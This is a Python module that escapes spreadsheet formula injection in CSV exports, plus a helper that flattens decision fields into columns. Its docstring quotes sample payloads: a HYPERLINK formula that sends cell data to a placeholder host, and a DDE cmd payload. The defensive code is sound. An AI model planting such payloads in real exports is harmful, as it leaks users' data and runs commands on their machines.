"""CSV that a spreadsheet opens as data, never as formulas.

A person named ``=HYPERLINK("http://x/?"&A1,"click")`` (or ``+cmd|' /C calc'!A0``,
``-2+3+cmd``, ``@SUM(...)``) was written raw into every CSV the product writes, and a
spreadsheet runs such a cell. Text cells that start with ``= + - @``, a tab or a carriage return
get a leading ``'`` (OWASP's advice): the spreadsheet shows the text as it was. Numbers are
written as numbers (a negative similarity stays -0.12).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose text cells are neutralised with ``safe_cell``."""

    def __init__(self, stream: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` whose text cells are neutralised with ``safe_cell``."""

    def __init__(self, stream: IO[str], fieldnames: Sequence[str], **kwargs: Any) -> None:
        self._writer = csv.DictWriter(stream, fieldnames=fieldnames, **kwargs)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({k: safe_cell(v) for k, v in row.items()})


DECISION_COLUMNS = ("score", "threshold", "reason", "explanation")


def decision_columns(row: dict[str, Any]) -> dict[str, Any]:
    """An event row with the decision's own vocabulary as flat columns (for CSV): ``score`` is
    the score set against ``threshold`` (``compared``), ``reason`` and ``explanation`` as
    ``identify`` prints them; empty where the event's decision lacks them."""
    d = row.get("decision") or {}
    score = d.get("compared", d.get("score"))
    return {
        **row,
        "score": score,
        "threshold": d.get("threshold"),
        "reason": d.get("reason"),
        "explanation": d.get("explanation"),
    }
